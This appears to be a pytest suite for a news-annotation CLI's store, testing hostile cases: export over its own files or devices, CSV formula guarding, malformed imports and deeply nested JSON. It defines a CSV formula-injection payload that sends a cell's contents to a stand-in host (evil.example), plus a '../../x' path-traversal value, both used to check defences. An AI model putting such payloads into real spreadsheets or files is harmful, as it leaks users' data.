"""Issue 13, the store and the dataset: export over the store or a device, formulas in
CSV, damaged store files, hostile import lines, silent changes. Each case is the exact
input the hostile test used."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from newsdiff.cli import main
from newsdiff.store import Store

from .test_cli import one_line_error, run

ARTICLE = "The mayor resigned on Monday. Critics said it came too late. Prices rose.\n"


@pytest.fixture
def st(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A store at st/newsdiff.json (relative, as the hostile test named it) with tags."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("NEWSDIFF_STORE", "st/newsdiff.json")
    (tmp_path / "a.txt").write_text(ARTICLE)
    for i, label in enumerate(("fact", "attribution", "fact")):
        assert main(["tag", "a.txt", str(i), label, "--annotator", "ana"]) == 0
    assert main(["tag", "a.txt", "0", "opinion", "--annotator", "bo"]) == 0
    return tmp_path / "st"


def snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def tag_file(st: Path) -> Path:
    (only,) = (st / "newsdiff.tags").glob("*.json")
    return only


# --- 1. export --output over the store, or over a device --------------------------------


@pytest.mark.parametrize(
    "output",
    [
        "st/newsdiff.tags/{id}.json",
        "st/newsdiff.json",
        "st/newsdiff.index.json",
        "st/newsdiff.json.lock",
        "st/newsdiff.tags",
        "link-to-tag-file.json",
        "st/../st/newsdiff.index.json",
    ],
)
def test_export_onto_the_stores_own_files_is_refused(capsys, st, output):
    """`export --output st/newsdiff.tags/<id>.json` (and the main file, the index, a link to
    one): one line, exit 2, every store file as it was, the tags still there."""
    os.symlink(tag_file(st), "link-to-tag-file.json")
    before = snapshot(st)
    capsys.readouterr()
    code, out, err = run(capsys, "export", "--output", output.format(id=tag_file(st).stem))
    assert code == 2 and out == ""
    one_line_error(err, "one of the store's own files")
    assert snapshot(st) == before
    code, out, _ = run(capsys, "sentences", "a.txt")
    assert code == 0 and "[ana=fact bo=opinion]" in out


def test_export_onto_a_device_writes_in_place_and_never_replaces_it(capsys, st, tmp_path):
    """`--output /dev/full` (as root: a device node of our own, the same device): the
    device is written in place, the write fails, one line, exit 2, still a device."""
    if os.geteuid() == 0:
        device = tmp_path / "full"
        os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 7))  # what /dev/full is
    else:
        device = Path("/dev/full")  # not root: the rename over it fails in /dev anyway
    code, _, err = run(capsys, "export", "--output", str(device))
    assert code == 2
    one_line_error(err, str(device), "No space left on device")
    assert stat.S_ISCHR(os.stat(device).st_mode)
    code, out, _ = run(capsys, "export", "--output", os.devnull)
    assert code == 0 and out == f"exported 4 records to {os.devnull}\n"


def test_export_onto_a_fifo_is_refused_without_waiting(capsys, st, tmp_path):
    """A FIFO would wait for a reader (or be replaced by a file): refused at once."""
    os.mkfifo(tmp_path / "pipe")
    code, _, err = run(capsys, "export", "--output", "pipe")
    assert code == 2
    one_line_error(err, "pipe", "FIFO")
    assert stat.S_ISFIFO(os.stat(tmp_path / "pipe").st_mode)


def test_export_to_dev_stdout_is_standard_output(st, tmp_path):
    """`--output /dev/stdout` (a pipe here) writes the records to standard output."""
    proc = subprocess.run(
        [sys.executable, "-m", "newsdiff", "export", "--output", "/dev/stdout"],
        capture_output=True,
        text=True,
        timeout=60,
        cwd=tmp_path,
    )
    assert proc.returncode == 0, proc.stderr
    assert [json.loads(x)["label"] for x in proc.stdout.splitlines()] == [
        ["fact"],
        ["opinion"],
        ["attribution"],
        ["fact"],
    ]


# --- 3. the CSV formula guard and import validation ------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _record(st: Path, **fields: object) -> dict[str, object]:
    """The first exported record of the fixture's store, with ``fields`` replaced."""
    data = json.loads(tag_file(st).read_text())
    (doc, *_) = data["tags"].values()
    rec = {**doc, "label": [doc["label"]], **fields}
    return rec


def test_every_text_cell_of_a_csv_export_is_guarded(capsys, st):
    """created, updated and article (not only text, note, annotator) cannot start a formula."""
    doc_path = tag_file(st)
    data = json.loads(doc_path.read_text())
    for doc in data["tags"].values():  # as an older import let them in
        doc.update(created=HYPERLINK, updated="+1+1", article="=1+1", note="@x")
    doc_path.write_text(json.dumps(data))
    capsys.readouterr()
    code, out, err = run(capsys, "export", "--format", "csv")
    assert code == 0, err
    rows = list(csv.reader(io.StringIO(out.removeprefix("\ufeff"))))
    cells = [c for row in rows[1:] for c in row]
    assert HYPERLINK not in cells and "'" + HYPERLINK in cells and "'+1+1" in cells
    assert all(c[:1] not in ("=", "+", "-", "@", "\t", "\r") for c in cells)


@pytest.mark.parametrize(
    ("fields", "reason"),
    [
        ({"created": HYPERLINK}, "'created' is not a timestamp"),
        ({"updated": "+1+1"}, "'updated' is not a timestamp"),
        ({"created": 5}, "'created' is not a timestamp"),
        ({"article": HYPERLINK}, "'article' is not an absolute path"),
        ({"article": "relative/a.txt"}, "'article' is not an absolute path"),
        ({"source": "robot"}, "'source' is not one of human, suggestion, propagated"),
        ({"sentence": 10**100}, "'sentence' is not a whole number from 0"),
        ({"sentence": -5}, "'sentence' is not a whole number from 0"),
        ({"start": 9, "end": 3}, "offsets 9-3 are not a span"),
        ({"unsure": "maybe"}, "'unsure' is not true or false"),
        ({"unsure": 2}, "'unsure' is not true or false"),
        ({"note": 5}, "'note' is not text"),
    ],
)
def test_import_skips_a_field_it_would_have_to_coerce(capsys, st, tmp_path, fields, reason):
    """A record whose field is not what the field holds is skipped with its reason, not
    stored changed (created 5 as "5", unsure "maybe" as false) or as given."""
    bad = _record(st, annotator="cy", **fields)
    good = _record(st, annotator="dee")
    (tmp_path / "in.jsonl").write_text(json.dumps(bad) + "\n" + json.dumps(good) + "\n")
    before = {(t.annotator, t.sentence) for t in Store("st/newsdiff.json").tags()}
    code, out, err = run(capsys, "import", "in.jsonl")
    assert code == 0, err
    assert "imported 1 record " in out and "skipped 1" in out
    assert f"newsdiff: skipped 1: {reason}" in err and "(line 1)" in err
    after = {(t.annotator, t.sentence) for t in Store("st/newsdiff.json").tags()}
    assert after - before == {("dee", 0)}


def test_import_keeps_what_is_right(capsys, st, tmp_path):
    """The checks let through what export writes: CSV true/false, stdin's '-', times."""
    rec = _record(st, annotator="eve", unsure=True, note="check", source="suggestion")
    (tmp_path / "in.jsonl").write_text(json.dumps(rec) + "\n")
    assert main(["import", "in.jsonl"]) == 0
    assert main(["export", "--format", "csv", "--output", "out.csv"]) == 0
    (tmp_path / "other").mkdir()  # a named store's folder must exist
    assert main(["import", "out.csv", "--store", "other/newsdiff.json"]) == 0
    out = capsys.readouterr().out
    assert "imported 5 records (5 new or changed, 0 already in the store); skipped 0" in out
    ours = [t for t in Store("other/newsdiff.json").tags() if t.annotator == "eve"]
    assert [(t.unsure, t.note, t.source) for t in ours] == [(True, "check", "suggestion")]


# --- 4. tracebacks ------------------------------------------------------------------------

STORE_COMMANDS = [
    ("sentences", "a.txt"),
    ("tag", "a.txt", "1", "opinion"),
    ("export",),
    ("orphans",),
    ("agree",),
    ("import", "empty.jsonl"),
]


@pytest.mark.parametrize("argv", STORE_COMMANDS)
def test_a_main_file_nested_100000_deep_is_one_line(capsys, st, argv):
    """A store main file `[[[...]]]` 100,000 deep: one line, exit 2, the file kept."""
    main_file = st / "newsdiff.json"
    main_file.write_text("[" * 100_000 + "]" * 100_000)
    Path("empty.jsonl").write_text("")
    before = snapshot(st)
    capsys.readouterr()
    code, _, err = run(capsys, *argv)
    assert code == 2
    one_line_error(err, "newsdiff.json", "nested too deeply", "left as it is")
    assert snapshot(st) == before


@pytest.mark.parametrize(
    "entry", [{"paths": [1, None]}, {"names": [5]}, {"anchored_from": [5, {}]}]
)
@pytest.mark.parametrize("argv", STORE_COMMANDS[:4])
def test_an_index_with_wrong_types_in_its_lists_is_one_line(capsys, st, entry, argv):
    """An index whose `paths` is [1, null], `names` [5], `anchored_from` [5, {}]: one line
    and exit 2 in export, orphans, sentences and tag (no TypeError), the file kept."""
    index = st / "newsdiff.index.json"
    data = json.loads(index.read_text())
    next(iter(data["articles"].values())).update(entry)
    index.write_text(json.dumps(data))
    before = snapshot(st)
    capsys.readouterr()
    code, _, err = run(capsys, *argv)
    assert code == 2
    one_line_error(err, "newsdiff.index.json", "malformed")
    assert snapshot(st) == before


def test_import_lines_with_a_5000_digit_integer_or_100000_brackets(capsys, st, tmp_path):
    """An import line with a 5,000-digit integer or 100,000 `[`: each skipped with its
    reason, the good line imported."""
    good = json.dumps(_record(st, annotator="dee"))
    lines = ['{"sentence": ' + "9" * 5000 + "}", "[" * 100_000, good]
    (tmp_path / "in.jsonl").write_text("\n".join(lines) + "\n")
    code, out, err = run(capsys, "import", "in.jsonl")
    assert code == 0, err
    assert "imported 1 record " in out
    assert "skipped 1: a number too long to read (line 1)" in err
    assert "skipped 1: JSON nested too deeply (line 2)" in err


def test_a_csv_cell_over_the_csv_limit_is_one_line(capsys, st, tmp_path):
    """A CSV import with a cell over the csv module's limit: one line, exit 2."""
    (tmp_path / "in.csv").write_text('text,label\n"' + "x" * 200_000 + '",fact\n')
    code, _, err = run(capsys, "import", "in.csv")
    assert code == 2
    one_line_error(err, "in.csv", "not a CSV file newsdiff can read")


# --- 6. silent changes ----------------------------------------------------------------


def test_a_duplicate_record_is_reported_and_kept_until_a_write(capsys, st):
    """Two records of one sentence by one annotator: the read-only `sentences` lists both,
    says so and leaves the file; the next write keeps the latest, the other an orphan."""
    path = tag_file(st)
    data = json.loads(path.read_text())
    first = next(d for d in data["tags"].values() if d["annotator"] == "ana")
    data["tags"]["99"] = {**first, "label": "estimate", "updated": "2999-01-01T00:00:00+00:00"}
    path.write_text(json.dumps(data))
    before = path.read_bytes()
    capsys.readouterr()
    code, out, err = run(capsys, "sentences", "a.txt")
    assert code == 0
    assert "[ana=fact ana=estimate bo=opinion]" in out
    one_line_error(err, path.name, "2 records of sentence 0 by ana", "stays as it is")
    assert path.read_bytes() == before
    code, out, err = run(capsys, "export")
    assert code == 0 and len(out.splitlines()) == 5 and "2 records of sentence 0" in err
    assert path.read_bytes() == before

    assert main(["tag", "a.txt", "0", "--note", "checked", "--annotator", "ana"]) == 0
    capsys.readouterr()
    code, out, err = run(capsys, "sentences", "a.txt")
    assert "[ana=estimate* bo=opinion]" in out and err == ""  # the latest was kept
    code, out, _ = run(capsys, "orphans")
    assert "#1 fact by ana: a second record of its sentence by the same annotator" in out


def test_a_duplicate_is_set_aside_when_tags_move(capsys, st, tmp_path):
    """When an edit moves the tags (a write anyway), a duplicate becomes an orphan."""
    path = tag_file(st)
    data = json.loads(path.read_text())
    first = next(d for d in data["tags"].values() if d["annotator"] == "ana")
    data["tags"]["99"] = {**first, "label": "estimate", "updated": "2999-01-01T00:00:00+00:00"}
    path.write_text(json.dumps(data))
    (tmp_path / "a.txt").write_text("A new first sentence. " + ARTICLE)
    capsys.readouterr()
    code, out, err = run(capsys, "sentences", "a.txt")
    assert code == 0 and err == ""
    assert "1  " in out and "[ana=estimate bo=opinion]  The mayor resigned" in out
    code, out, _ = run(capsys, "orphans")
    assert "fact by ana: a second record of its sentence by the same annotator" in out


@pytest.mark.parametrize(
    ("change", "problem"),
    [
        ({"sentence": -5}, "negative sentence index -5"),
        ({"start": 20, "end": 4}, "offsets 20-4 are not a span"),
        ({"annotator": ""}, "the annotator name is empty"),
        ({"annotator": "   "}, "the annotator name is empty"),
        ({"article_id": "../../x"}, "bad article id '../../x'"),
    ],
)
def test_tag_file_damage_is_refused_like_an_unknown_label(capsys, st, change, problem):
    """A tag record with `sentence -5`, `start > end`, an empty annotator or an
    `article_id` of `../../x`: damage, one line, exit 2, nothing exported, file kept."""
    path = tag_file(st)
    data = json.loads(path.read_text())
    next(iter(data["tags"].values())).update(change)
    path.write_text(json.dumps(data))
    before = path.read_bytes()
    capsys.readouterr()
    for argv in (("export",), ("sentences", "a.txt"), ("orphans",)):
        code, out, err = run(capsys, *argv)
        assert code == 2 and out == ""
        one_line_error(err, path.name, problem, "left as it is")
    assert path.read_bytes() == before


def test_import_of_a_fifo_is_refused_without_waiting(capsys, st, tmp_path):
    """`newsdiff import fifo`: one line, exit 2, at once (opening it would wait for a writer)."""
    os.mkfifo(tmp_path / "in.jsonl")
    code, _, err = run(capsys, "import", "in.jsonl")
    assert code == 2
    one_line_error(err, "in.jsonl", "not a regular file")
